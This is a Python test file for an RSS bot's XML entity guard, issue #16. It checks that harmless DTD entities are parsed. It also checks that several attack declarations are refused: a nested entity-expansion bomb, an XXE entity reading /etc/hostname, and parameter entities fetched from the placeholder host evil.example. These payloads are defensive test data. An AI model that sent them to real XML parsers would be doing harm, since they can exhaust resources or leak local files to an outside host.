"""Harmless DTDs are read, and the feed with them (issue #16); whatever can amplify or reach
out is still refused. Through `parse_feed`, the function every poll uses."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from bot.models import FeedConfig
from bot.sources.parse import parse_feed
from bot.sources.xmlguard import entity_problem

FEED = FeedConfig(url="https://w.example/rss", name="Wire")
NOW = datetime(2026, 12, 2, 12, tzinfo=UTC)


def rss(dtd: str, title: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [{dtd}]><rss version="2.0">'
        "<channel><title>Wire</title><link>https://w.example/</link><description>d</description>"
        f"<item><title>{title}</title><link>https://w.example/1</link><guid>1</guid>"
        "<pubDate>Wed, 02 Dec 2026 10:00:00 +0000</pubDate></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    ("dtd", "title", "expected"),
    [
        ("<!ENTITY nbsp '&#160;'>", "CSTO&nbsp;summit", "CSTO summit"),
        ('<!ENTITY mdash "—">', "Sanctions &mdash; the 19th package", "the 19th package"),
        ('<!ENTITY wire "Wire Service">', "Report by &wire;", "Report by Wire Service"),
        ('<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" '
         '"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1;',
         "Astana summit", "Astana summit"),
    ],
)  # fmt: skip
def test_harmless_declarations_are_read_with_the_feed(dtd: str, title: str, expected: str) -> None:
    body = rss(dtd, title)
    assert entity_problem(body) is None
    items, error = parse_feed(body, FEED, fetched=NOW)
    assert len(items) == 1, error
    assert expected in items[0].title.replace("\xa0", " ")


@pytest.mark.parametrize(
    "dtd",
    [
        '<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">',  # nested: expansion
        '<!ENTITY x SYSTEM "file:///etc/hostname">',  # external: XXE
        '<!ENTITY big "' + "x" * 200 + '">',  # long: quadratic blow-up
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',  # parameter entity fetched
        '<!ENTITY % p PUBLIC "-//Evil//ENTITIES x//EN" "http://evil.example/x.ent"> %p;',
    ],
)
def test_declarations_that_can_amplify_or_reach_out_are_refused(dtd: str) -> None:
    body = rss(dtd, "x")
    assert (entity_problem(body) or "").startswith("refused: XML entity declaration")
    items, error = parse_feed(body, FEED, fetched=NOW)
    assert items == [] and error and error.startswith("refused")
